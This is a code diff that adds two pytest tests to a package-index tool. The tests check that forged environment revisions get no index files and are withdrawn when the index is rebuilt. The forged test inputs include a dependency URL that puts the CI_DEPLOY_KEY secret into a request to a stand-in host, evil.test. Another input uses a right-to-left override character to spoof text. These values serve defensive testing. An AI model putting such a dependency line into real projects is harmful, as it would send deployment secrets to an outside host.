@@ -10,7 +10,7 @@ from typing import Any
 
 import pytest
 from support import wheels
-from support.environments import revision
+from support.environments import forged, revision
 
 from ppmctl.distributions import distribution
 from ppmctl.index import environment_list, pages, rebuild, verify
@@ -190,6 +190,33 @@ def test_a_file_that_is_not_a_revision_gets_no_folder(store: Store) -> None:
     assert {path.name for path in top(store).iterdir()} == {"log.json"}
     store.write_root()
     assert differences(store) == []
+
+
+def test_a_revision_that_today_is_refused_gets_no_files(filled: Store) -> None:
+    """An older ppm accepted it. It stays in the log and in the pages, and others stay as they are."""
+    put(filled, forged("ml", 4, "x @ https://evil.test/${CI_DEPLOY_KEY}/x.whl"))
+    put(filled, forged("ml", 5, "numpy", lock=LOCK.replace("a test", "\u202e")))
+    assert {path.name for path in top(filled).iterdir()} == {"1", "2", "3", "latest", "log.json"}
+    assert latest(filled) == "# ppm-env-ml, revision 3\nnumpy==2.1\n"
+    assert [line["revision"] for line in log(filled)["revisions"]] == [1, 2, 3, 4, 5]
+    put(filled, revision("ml", 6, "numpy"))
+    assert latest(filled).startswith("# ppm-env-ml, revision 6\n")
+    filled.write_root()
+    assert differences(filled) == []
+
+
+def test_a_rebuild_withdraws_the_files_of_a_revision_that_today_is_refused(filled: Store) -> None:
+    put(filled, forged("ml", 4, "x @ https://evil.test/${CI_DEPLOY_KEY}/x.whl"))
+    (top(filled) / "4").mkdir()
+    for form in FORMS:
+        (top(filled) / "4" / form).write_text("as an older ppm wrote it")
+    (top(filled) / "latest").unlink()
+    (top(filled) / "latest").symlink_to("4")
+    filled.write_root()
+    assert {f"index/env/ml/{name}" for name in ("4", "latest")} <= set(differences(filled))
+    rebuild.rebuild(filled)
+    assert {path.name for path in top(filled).iterdir()} == {"1", "2", "3", "latest", "log.json"}
+    assert latest(filled) == "# ppm-env-ml, revision 3\nnumpy==2.1\n"
 
 
 def test_a_crash_between_the_files_and_the_link_is_repaired(filled: Store) -> None:
